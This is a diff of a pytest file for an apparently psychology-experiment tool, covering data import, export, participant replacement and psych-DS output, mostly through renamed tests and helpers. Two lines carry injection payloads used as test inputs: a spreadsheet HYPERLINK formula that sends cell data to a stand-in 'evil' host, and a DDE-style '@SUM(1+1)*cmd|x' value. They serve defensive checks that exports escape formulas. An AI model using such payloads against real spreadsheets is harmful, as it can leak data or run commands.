@@ -1,4 +1,4 @@
-"""From the store and from raw logs to the tables of the analysis.
+"""Test the tables of the analysis from the store and from raw logs.
 
 Tests `contstim.experiment.study_data`, `contstim.experiment.importing`,
 `contstim.experiment.exporting`.
@@ -16,9 +16,9 @@ from typing import Any
 import numpy as np
 import pandas as pd
 import pytest
+from client_messages import age_sessions, answer, answers_to, event, play, session_request
 from psychds_rules import check_psychds
 from studies import ATTENTION, RECRUITER, add, edit
-from talking import answer, answers_to, event, opening, play, silent
 
 from contstim.cli import main
 from contstim.errors import InputError, ValidationError
@@ -35,22 +35,22 @@ from contstim.tables import read_table
 
 
 @pytest.fixture
-def filled(study: Study) -> Study:
+def study_with_sessions(study: Study) -> Study:
     """Three sessions: one right throughout, one that fails a catch trial, one that stopped."""
     study = add(study, ATTENTION + RECRUITER)
     with Store(study) as store:
         play(store, "GOOD")
         play(store, "POOR", catch=1)
         play(store, "LEFT", n=3)
-        token, bundle, _ = store.open(opening(study)).result()
+        token, bundle, _ = store.open(session_request(study)).result()
         first = bundle["trials"][1]["trial"]
         store.add_answers(token, [answer(first, -3), answer(first, 3)]).result()
         store.add_events(token, [event("blur")]).result()
     return study
 
 
-def test_choices_are_as_the_design_says(filled: Study, trials: pd.DataFrame) -> None:
-    choices = read_study_data(filled).choices
+def test_choices_agree_with_the_design(study_with_sessions: Study, trials: pd.DataFrame) -> None:
+    choices = read_study_data(study_with_sessions).choices
     assert len(choices) == 6 + 6 + 2 + 1  # of LEFT's three answers one is to a check
     keys = ["trial", "condition", "sentence_1", "sentence_2", "side_1", "stimulus", "group"]
     keys += ["kind_1", "kind_2"]
@@ -64,15 +64,17 @@ def test_choices_are_as_the_design_says(filled: Study, trials: pd.DataFrame) -> 
         assert pairs.where(pairs.notna(), None).to_numpy().tolist() == (
             wanted[["model_1", "model_2"]].astype(object).to_numpy().tolist()
         )
-    whole = choices[choices["participant"].isin(read_study_data(filled).complete_participants)]
+    whole = choices[
+        choices["participant"].isin(read_study_data(study_with_sessions).complete_participants)
+    ]
     ratings = whole[whole["condition"] != "catch"]["rating"]
     assert (ratings == -1.5).all()
     assert whole[whole["condition"] == "catch"]["rating"].tolist().count(1.5) == 1
     assert (choices["expected"].notna() == (choices["condition"] == "catch")).all()
 
 
-def test_the_tables_of_sessions_checks_and_conflicts(filled: Study) -> None:
-    collected = read_study_data(filled)
+def test_tables_of_sessions_checks_and_conflicts(study_with_sessions: Study) -> None:
+    collected = read_study_data(study_with_sessions)
     sessions = collected.sessions
     assert sessions["outcome"].tolist() == ["complete", "complete", "unfinished", "unfinished"]
     assert sessions["n_answered"].tolist() == [6, 6, 2, 1]
@@ -91,9 +93,9 @@ def test_the_tables_of_sessions_checks_and_conflicts(filled: Study) -> None:
     assert "POOR" not in everything
 
 
-def test_hashes_are_the_same_in_a_study_and_others_in_another(filled: Study) -> None:
-    first = read_study_data(filled).sessions["participant"].tolist()
-    assert first == read_study_data(filled).sessions["participant"].tolist()
+def test_participant_hashes_are_specific_to_the_study(study_with_sessions: Study) -> None:
+    first = read_study_data(study_with_sessions).sessions["participant"].tolist()
+    assert first == read_study_data(study_with_sessions).sessions["participant"].tolist()
     assert len(set(first)) == 4
     assert hash_participant("a", "s", "GOOD") != hash_participant("b", "s", "GOOD")
     assert hash_participant("a", "s", None) != hash_participant("a", "t", None)
@@ -101,20 +103,22 @@ def test_hashes_are_the_same_in_a_study_and_others_in_another(filled: Study) -> 
     assert hash_participant("a", "s", "x") != hash_participant("a", "s", None)
 
 
-def test_reading_changes_nothing(filled: Study) -> None:
-    path = filled.folder / "collected.sqlite3"
+def test_reading_does_not_change_the_data_file(study_with_sessions: Study) -> None:
+    path = study_with_sessions.folder / "collected.sqlite3"
     before = path.read_bytes()
-    read_study_data(filled)
-    read_recruiter_ids(filled)
+    read_study_data(study_with_sessions)
+    read_recruiter_ids(study_with_sessions)
     assert path.read_bytes() == before
 
 
-def test_without_data_there_is_one_line(study: Study, capsys: pytest.CaptureFixture[str]) -> None:
+def test_export_without_data_is_rejected(study: Study, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["experiment", "export", str(study.folder), "--out", "x"]) == 2
     assert "there are no data" in capsys.readouterr().err
 
 
-def log(study: Study, assignment: int, session: str, n: int | None = None) -> list[dict[str, Any]]:
+def raw_log(
+    study: Study, assignment: int, session: str, n: int | None = None
+) -> list[dict[str, Any]]:
     """Return the lines that a page without a server keeps."""
     bundle = make_bundle(study, assignment)
     named = {name: bundle[name] for name in ("group", "assignment", "digest")}
@@ -130,18 +134,18 @@ def log(study: Study, assignment: int, session: str, n: int | None = None) -> li
     return [*lines, {**head, "events": [event()]}]
 
 
-def write(path: Path, lines: list[dict[str, Any]]) -> Path:
+def write_lines(path: Path, lines: list[dict[str, Any]]) -> Path:
     path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")
     return path
 
 
-def test_raw_logs_give_the_tables_that_the_server_gives(study: Study, tmp_path: Path) -> None:
+def test_imported_logs_equal_server_tables(study: Study, tmp_path: Path) -> None:
     first, second = "session-1", "session-2"
-    lines = log(study, 2, first)
+    lines = raw_log(study, 2, first)
     folder = tmp_path / "logs"
     folder.mkdir()
-    write(folder / "a.jsonl", lines[:3])
-    write(folder / "b.txt", lines[2:] + log(study, 3, second, 2))
+    write_lines(folder / "a.jsonl", lines[:3])
+    write_lines(folder / "b.txt", lines[2:] + raw_log(study, 3, second, 2))
     found = import_logs(study, [folder])
     assert (found.sessions, found.added, found.conflicts, found.notes) == (2, 8, 0, ())
     again = import_logs(study, [folder])
@@ -154,7 +158,7 @@ def test_raw_logs_give_the_tables_that_the_server_gives(study: Study, tmp_path: 
     assert collected.sessions["consent_sha256"].iloc[0] == study.consent_sha256
     with Store(study, tmp_path / "other.sqlite3") as store:
         for wanted in (1, 3, 2):  # the assignments in the order in which a server gives them
-            token, bundle, _ = store.open(opening(study)).result()
+            token, bundle, _ = store.open(session_request(study)).result()
             assert bundle["assignment"] == wanted
         sent = [line["answers"][0] for line in lines if "answers" in line]
         store.add_answers(token, sent).result()
@@ -164,16 +168,17 @@ def test_raw_logs_give_the_tables_that_the_server_gives(study: Study, tmp_path: 
     assert imported[columns].to_csv() == served[columns].to_csv()
 
 
-def test_how_a_session_began_may_be_in_the_file_that_is_imported_second(
-    study: Study, tmp_path: Path
-) -> None:
+def test_session_start_can_be_in_a_later_file(study: Study, tmp_path: Path) -> None:
     study = add(study, RECRUITER)
-    lines = log(study, 1, "session-1")
+    lines = raw_log(study, 1, "session-1")
     lines[0]["consent"] |= {
         "recruiter": {"participant": "5f0c", "STUDY_ID": "s1"},
         "materials": digest_materials(study),
     }
-    first, rest = write(tmp_path / "1.jsonl", lines[:2]), write(tmp_path / "2.jsonl", lines[2:])
+    first, rest = (
+        write_lines(tmp_path / "1.jsonl", lines[:2]),
+        write_lines(tmp_path / "2.jsonl", lines[2:]),
+    )
     tables = []
     for name, order in (("at-once", [[first, rest]]), ("in-turn", [[rest], [first]])):
         data = tmp_path / f"{name}.sqlite3"
@@ -190,9 +195,7 @@ def test_how_a_session_began_may_be_in_the_file_that_is_imported_second(
 
 
 @pytest.mark.parametrize("right", [1, 2])
-def test_the_right_answer_that_a_design_gives_is_kept(
-    study: Study, tmp_path: Path, right: int
-) -> None:
+def test_expected_answers_of_the_design_are_kept(study: Study, tmp_path: Path, right: int) -> None:
     path = study.folder / "trials.csv"
     table = pd.read_csv(path)
     random = table["condition"].str.startswith("random")
@@ -215,10 +218,10 @@ def test_the_right_answer_that_a_design_gives_is_kept(
             read_study(study.folder)
 
 
-def test_answers_to_other_trials_are_refused(
+def test_answers_to_other_trials_are_rejected(
     study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    lines = log(study, 1, "session-1")
+    lines = raw_log(study, 1, "session-1")
     path = study.folder / "trials.csv"
     # Another version of the study: the same name, groups and assignments.
     path.write_text(
@@ -226,8 +229,8 @@ def test_answers_to_other_trials_are_refused(
     )
     changed = read_study(study.folder)
     whole, half = tmp_path / "whole.jsonl", tmp_path / "half.jsonl"
-    write(whole, lines)
-    write(half, [*lines[:3], *log(changed, 2, "session-2")])
+    write_lines(whole, lines)
+    write_lines(half, [*lines[:3], *raw_log(changed, 2, "session-2")])
     command = ["experiment", "import", str(study.folder)]
     assert main([*command, str(whole)]) == 2
     told = capsys.readouterr().err
@@ -237,23 +240,25 @@ def test_answers_to_other_trials_are_refused(
     assert read_study_data(changed).sessions["session"].tolist() == ["session-2"]
 
 
-def test_answers_on_another_scale_are_refused(study: Study, tmp_path: Path) -> None:
-    lines = write(tmp_path / "x.jsonl", log(study, 1, "session-1"))
+def test_answers_on_another_scale_are_rejected(study: Study, tmp_path: Path) -> None:
+    lines = write_lines(tmp_path / "x.jsonl", raw_log(study, 1, "session-1"))
     with pytest.raises(InputError, match="other trials"):
         import_logs(edit(study, "levels = 3", "levels = 4"), [lines])
 
 
-def test_a_log_without_a_digest_is_left_out(study: Study, tmp_path: Path) -> None:
+def test_logs_without_a_digest_are_skipped(study: Study, tmp_path: Path) -> None:
     lines = [
-        {k: v for k, v in line.items() if k != "digest"} for line in log(study, 1, "session-1")
+        {k: v for k, v in line.items() if k != "digest"} for line in raw_log(study, 1, "session-1")
     ]
-    found = import_logs(study, [write(tmp_path / "x.jsonl", [*lines, *log(study, 2, "session-2")])])
+    found = import_logs(
+        study, [write_lines(tmp_path / "x.jsonl", [*lines, *raw_log(study, 2, "session-2")])]
+    )
     assert (found.added, found.sessions) == (6, 1)
     assert len(found.notes) == len(lines)
     assert "line 1 is left out: its digest is None: it comes from a page" in found.notes[0]
 
 
-def test_faults_in_raw_logs_cost_what_has_them(
+def test_faulty_lines_of_raw_logs_are_skipped(
     study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     session = str(uuid.uuid4())
@@ -261,7 +266,7 @@ def test_faults_in_raw_logs_cost_what_has_them(
     head = {"session": session, "group": 1, "assignment": 1, "digest": digest}
     trial = study.design.trials[1][0].id
     good, other = answer(trial), answer(trial, 1)
-    path = write(
+    path = write_lines(
         tmp_path / "x.jsonl",
         [
             {**head, "answers": [good, other, answer("t999")]},
@@ -298,24 +303,22 @@ def test_faults_in_raw_logs_cost_what_has_them(
         import_logs(study, [_empty(tmp_path), study.folder / "none-such"])
 
 
-def test_imported_sessions_end_as_the_server_would_have_ended_them(
-    study: Study, tmp_path: Path
-) -> None:
+def test_imported_sessions_get_the_outcome_of_the_server(study: Study, tmp_path: Path) -> None:
     study = edit(add(study, ATTENTION), "failed_checks_limit = 2", "failed_checks_limit = 1")
     study = edit(study, "time_limit_minutes = 0", "time_limit_minutes = 10")
-    failed = log(study, 1, "session-1")  # chooses the left side everywhere
-    late = log(study, 2, "session-2")
-    slow = log(study, 3, "session-3", 2)
+    failed = raw_log(study, 1, "session-1")  # chooses the left side everywhere
+    late = raw_log(study, 2, "session-2")
+    slow = raw_log(study, 3, "session-3", 2)
     for line in (*late, *slow):
         for value in line.get("answers", []):
             value["choice"] = 1 if value["trial"] == "n1" else -1  # the check that wants the right
     late[-2]["answers"][0]["answered_at"] = "2026-11-21T12:10:00Z"  # 12 minutes after consent
     slow[-1]["events"][0]["at"] = "2026-11-21T12:08:30Z"
-    right = log(study, 4, "session-4")
+    right = raw_log(study, 4, "session-4")
     for line in right:
         for value in line.get("answers", []):
             value["choice"] = 1 if value["trial"] == "n1" else -1
-    import_logs(study, [write(tmp_path / "x.jsonl", failed + late + slow + right)])
+    import_logs(study, [write_lines(tmp_path / "x.jsonl", failed + late + slow + right)])
     ends = read_study_data(study).sessions.set_index("session")["outcome"].to_dict()
     assert ends == {
         "session-1": "failed_checks",
@@ -323,13 +326,13 @@ def test_imported_sessions_end_as_the_server_would_have_ended_them(
         "session-3": "time_limit",
         "session-4": "complete",
     }
-    write(tmp_path / "rest.jsonl", log(study, 3, "session-3")[3:])
+    write_lines(tmp_path / "rest.jsonl", raw_log(study, 3, "session-3")[3:])
     assert import_logs(study, [tmp_path / "rest.jsonl"]).added == 6
     ends = read_study_data(study).sessions.set_index("session")["outcome"].to_dict()
     assert (ends["session-1"], ends["session-3"]) == ("failed_checks", "complete")
 
 
-def test_a_file_without_any_log_is_refused_and_nothing_is_made(
+def test_files_without_a_log_are_rejected(
     study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     def refused(*paths: Path) -> str:
@@ -347,7 +350,7 @@ def test_a_file_without_any_log_is_refused_and_nothing_is_made(
     other.write_text('{"session": "x"}\nchoice,rt\n', "utf-8")
     why = "line 1: it has no session"
     assert refused(other) == f"contstim: {other} has no log of this study ({why}); {what}\n"
-    right = write(tmp_path / "right.jsonl", log(study, 1, "session-1"))
+    right = write_lines(tmp_path / "right.jsonl", raw_log(study, 1, "session-1"))
     assert refused(right, other) == (
         f"contstim: {other} has no log of this study ({why}); {what}\n"
     )
@@ -360,10 +363,10 @@ def test_a_file_without_any_log_is_refused_and_nothing_is_made(
     assert import_logs(study, [folder]).added == 6
 
 
-def test_a_line_that_is_left_out_makes_no_session(study: Study, tmp_path: Path) -> None:
+def test_skipped_lines_create_no_session(study: Study, tmp_path: Path) -> None:
     head = {"session": "session-1", "group": 1, "assignment": 1}
     head["digest"] = study.trials_digests[1]
-    path = write(
+    path = write_lines(
         tmp_path / "x.jsonl",
         [
             {**head, "answers": "none"},
@@ -374,7 +377,7 @@ def test_a_line_that_is_left_out_makes_no_session(study: Study, tmp_path: Path) 
     assert read_study_data(study).sessions["group"].tolist() == [1]
 
 
-def test_data_that_cannot_be_written_are_one_line_and_nothing_is_kept(
+def test_failed_writes_leave_no_partial_data(
     study: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     path = study.folder / "collected.sqlite3"
@@ -389,7 +392,7 @@ def test_data_that_cannot_be_written_are_one_line_and_nothing_is_kept(
             )
 
     fill("INSERT ON events")
-    logs = write(tmp_path / "x.jsonl", log(study, 1, "session-1"))
+    logs = write_lines(tmp_path / "x.jsonl", raw_log(study, 1, "session-1"))
     assert main(["experiment", "import", str(study.folder), str(logs)]) == 2
     what = f"contstim: cannot use {path} as the study's data: database or disk is full\n"
     assert capsys.readouterr().err == what
@@ -411,11 +414,11 @@ def _empty(tmp_path: Path) -> Path:
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
 
 
-def test_no_cell_of_the_export_is_a_formula(study: Study, tmp_path: Path) -> None:
+def test_spreadsheet_formulas_in_exports_are_escaped(study: Study, tmp_path: Path) -> None:
     question = '[[questions]]\nname = "free"\nprompt = "Anything?"\nrows = 3\nwhen = "after"\n'
     study = add(study, RECRUITER + question)
     with Store(study) as store:
-        asked = replace(opening(study, "GOOD"), parameters={"STUDY_ID": "@SUM(1+1)*cmd|x"})
+        asked = replace(session_request(study, "GOOD"), parameters={"STUDY_ID": "@SUM(1+1)*cmd|x"})
         token, _, _ = store.open(asked).result()
         detail = json.dumps({"responses": {"free": f"{FORMULA}\0"}, "rt_ms": 5})
         assert store.add_events(token, [event("responses", detail=detail)]).result().acknowledged
@@ -434,34 +437,34 @@ def test_no_cell_of_the_export_is_a_formula(study: Study, tmp_path: Path) -> Non
     assert read_table(out / "responses.csv")["response"].tolist() == [f"{FORMULA}\0"]
 
 
-def test_ids_hold_what_a_recruiter_gives(study: Study) -> None:
+def test_invalid_recruiter_ids_are_rejected(study: Study) -> None:
     study = add(study, RECRUITER)
     with Store(study) as store:
         for who in (FORMULA, "{{%PROLIFIC_PID%}}", "a b", "x" * 129):
             with pytest.raises(InputError, match="which no platform gives"):
-                store.open(opening(study, who)).result()
-        store.open(opening(study, "5f00_-Z")).result()
-        store.open(opening(study, "a@b.org")).result()
+                store.open(session_request(study, who)).result()
+        store.open(session_request(study, "5f00_-Z")).result()
+        store.open(session_request(study, "a@b.org")).result()
 
 
-def test_an_id_in_a_log_that_none_gives_is_left_out_and_noted(study: Study, tmp_path: Path) -> None:
+def test_invalid_recruiter_ids_in_logs_are_noted(study: Study, tmp_path: Path) -> None:
     study = add(study, RECRUITER)
-    lines = log(study, 1, "session-1")
+    lines = raw_log(study, 1, "session-1")
     lines[0]["consent"]["recruiter"] = {"participant": FORMULA, "jatos_result": "7"}
-    found = import_logs(study, [write(tmp_path / "x.jsonl", lines)])
+    found = import_logs(study, [write_lines(tmp_path / "x.jsonl", lines)])
     assert found.added == 6
     assert "is left out, because it has characters that" in found.notes[0]
     assert read_recruiter_ids(study)["recruiter_id"].tolist() == [None]
 
 
 def test_replacement_frees_the_assignments(
-    filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    with Store(filled) as store, pytest.raises(RequestError, match="no place"):
-        store.open(opening(filled, "NEXT")).result()
+    with Store(study_with_sessions) as store, pytest.raises(RequestError, match="no place"):
+        store.open(session_request(study_with_sessions, "NEXT")).result()
     out = tmp_path / "replace.csv"
-    silent(filled, 400)
-    command = ["experiment", "replace", str(filled.folder), "--exclude", "catch<0.91"]
+    age_sessions(study_with_sessions, 400)
+    command = ["experiment", "replace", str(study_with_sessions.folder), "--exclude", "catch<0.91"]
     assert main([*command, "--release", "--out", str(out)]) == 0
     assert "3 assignments released" in capsys.readouterr().err
     table = pd.read_csv(out)
@@ -471,70 +474,85 @@ def test_replacement_frees_the_assignments(
         "unfinished: 1 of 6 trials answered",
     ]
     assignment = int(table["assignment"][0])
-    with Store(filled) as store:
+    with Store(study_with_sessions) as store:
         assignments = [
-            store.open(opening(filled, name)).result()[1]["assignment"] for name in "XYZ"
+            store.open(session_request(study_with_sessions, name)).result()[1]["assignment"]
+            for name in "XYZ"
         ]
         assert assignment in assignments
         # Excluded sessions do not take their assignments back.
         assert store.summary().result()["free"] == 0
-    assert len(read_study_data(filled).choices) == 15
+    assert len(read_study_data(study_with_sessions).choices) == 15
     assert main([*command, "--out", str(out)]) == 0
     assert pd.read_csv(out)["released"].tolist() == ["excluded", "abandoned", "abandoned"]
 
 
-def test_who_is_answering_keeps_the_place_and_who_comes_back_has_it_again(
-    filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+def test_replacement_spares_active_sessions(
+    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     out = tmp_path / "replace.csv"
-    command = ["experiment", "replace", str(filled.folder), "--release", "--out", str(out)]
+    command = [
+        "experiment",
+        "replace",
+        str(study_with_sessions.folder),
+        "--release",
+        "--out",
+        str(out),
+    ]
     assert main(command) == 0
     assert "0 assignments released" in capsys.readouterr().err
     assert pd.read_csv(out).empty
-    silent(filled, 400)
+    age_sessions(study_with_sessions, 400)
     assert main(command) == 0
     assert "2 assignments released" in capsys.readouterr().err
-    with Store(filled) as store:
-        token, _, _ = store.open(opening(filled, "LEFT")).result()
+    with Store(study_with_sessions) as store:
+        token, _, _ = store.open(session_request(study_with_sessions, "LEFT")).result()
         store.add_events(token, [event("blur")]).result()
-    sessions = read_study_data(filled).sessions
+    sessions = read_study_data(study_with_sessions).sessions
     assert sessions["released"].tolist().count("abandoned") == 1
 
 
-def test_release(filled: Study, capsys: pytest.CaptureFixture[str]) -> None:
-    sessions = read_study_data(filled).sessions
+def test_sessions_are_released_by_id_or_timeout(
+    study_with_sessions: Study, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sessions = read_study_data(study_with_sessions).sessions
     name = sessions["session"][2]
-    command = ["experiment", "release", str(filled.folder)]
+    command = ["experiment", "release", str(study_with_sessions.folder)]
     assert main([*command, "--session", name, "--reason", "withdrawn"]) == 0
     assert capsys.readouterr().out.split() == [name]
-    assert read_study_data(filled).sessions["released"].tolist() == ["", "", "withdrawn", ""]
+    assert read_study_data(study_with_sessions).sessions["released"].tolist() == [
+        "",
+        "",
+        "withdrawn",
+        "",
+    ]
     assert main([*command, "--session", "none-such"]) == 2
     assert "there is no session 'none-such'" in capsys.readouterr().err
     assert main(command) == 2
     assert main([*command, "--timeout", "0"]) == 0
     assert capsys.readouterr().out.split() == [sessions["session"][3]]
-    assert release_sessions(filled, {name: "again"}) == []
+    assert release_sessions(study_with_sessions, {name: "again"}) == []
 
 
-def test_everybody_who_fails_is_replaced(
-    filled: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+def test_participants_failing_a_rule_are_replaced(
+    study_with_sessions: Study, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     out = tmp_path / "replace.csv"
-    command = ["experiment", "replace", str(filled.folder), "--exclude", "trials<1000"]
+    command = ["experiment", "replace", str(study_with_sessions.folder), "--exclude", "trials<1000"]
     assert main([*command, "--out", str(out)]) == 0
     assert pd.read_csv(out)["reason"].str.startswith("few trials: ").sum() == 2
     assert "assignments to replace" in capsys.readouterr().err
 
 
-def test_replacement_without_rules_lists_who_stopped(filled: Study) -> None:
+def test_replacement_without_rules_lists_unfinished_sessions(study_with_sessions: Study) -> None:
     none = pd.DataFrame(columns=["participant", "rule", "detail"])
-    table = make_replacement_table(read_study_data(filled), none)
+    table = make_replacement_table(read_study_data(study_with_sessions), none)
     assert table["group"].tolist() == [1, 2]
 
 
-def test_psychds_names_what_is_wrong(filled: Study, tmp_path: Path) -> None:
+def test_check_psychds_finds_each_fault(study_with_sessions: Study, tmp_path: Path) -> None:
     folder = tmp_path / "ds"
-    write_psychds(filled, read_study_data(filled), folder)
+    write_psychds(study_with_sessions, read_study_data(study_with_sessions), folder)
     rows = check_psychds(folder)
     assert rows["data/study-study_task-choices_data.csv"] == 15
     assert {"README.md", "materials"} < {path.name for path in folder.iterdir()}
@@ -585,9 +603,9 @@ def test_psychds_names_what_is_wrong(filled: Study, tmp_path: Path) -> None:
         check_psychds(tmp_path / "none")
 
 
-def test_row_ids_of_other_data_sets_are_unique(filled: Study, tmp_path: Path) -> None:
+def test_row_ids_of_other_data_sets_are_unique(study_with_sessions: Study, tmp_path: Path) -> None:
     folder = tmp_path / "ds"
-    write_psychds(filled, read_study_data(filled), folder)
+    write_psychds(study_with_sessions, read_study_data(study_with_sessions), folder)
     path = folder / "dataset_description.json"
     text = path.read_text("utf-8").replace('"name": "rating"', '"name": "row_id"')
     path.write_text(
